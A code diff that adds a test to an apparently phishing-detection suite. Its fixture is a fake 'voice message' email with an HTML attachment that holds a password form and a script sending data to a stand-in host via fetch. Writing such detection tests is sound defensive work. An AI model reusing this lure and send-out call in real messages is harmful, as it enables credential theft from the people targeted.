@@ -52,4 +52,34 @@ describe('W5: pages that are in evidence', () => {
     const plain = aMail('n', '<p>Microsoft</p><a href="https://collect.test/p">read</a>')
     expect(idsOf(await analysisOf(plain, 'plain.eml', 'https://collect.test/p'))).toEqual([])
   })
+
+  it('W5 W6 a page that came as an attachment speaks against the address it sends passwords to', async () => {
+    const page = `<html><head>${FORM}</head><script>fetch('https://api.bot.test/send?x=1')</script></html>`
+    const mail = [
+      'From: Sender <sender@mail.test>',
+      'To: amy@corp.test',
+      'Message-ID: <a@mail.test>',
+      'Date: Mon, 02 Mar 2026 10:00:00 +0000',
+      'Subject: Voice message',
+      'MIME-Version: 1.0',
+      'Content-Type: multipart/mixed; boundary=b',
+      '',
+      '--b',
+      'Content-Type: text/html; charset=utf-8',
+      '',
+      '<p>Listen: <a href="https://other.test/">here</a></p>',
+      '--b',
+      'Content-Type: application/octet-stream; name="voice.htm"',
+      'Content-Disposition: attachment; filename="voice.htm"',
+      'Content-Transfer-Encoding: base64',
+      '',
+      Buffer.from(page).toString('base64'),
+      '--b--',
+      '',
+    ].join('\r\n')
+    const analysis = await analysisOf(mail, 'voice.eml', 'https://collect.test/p')
+    expect(idsOf(analysis)).toEqual(expect.arrayContaining(['page-brand', 'page-password-form']))
+    expect(analysis.category).toBe('credential-phishing')
+    expect(idsOf(await analysisOf(mail, 'voice.eml', 'https://other.test/'))).toEqual([])
+  })
 })
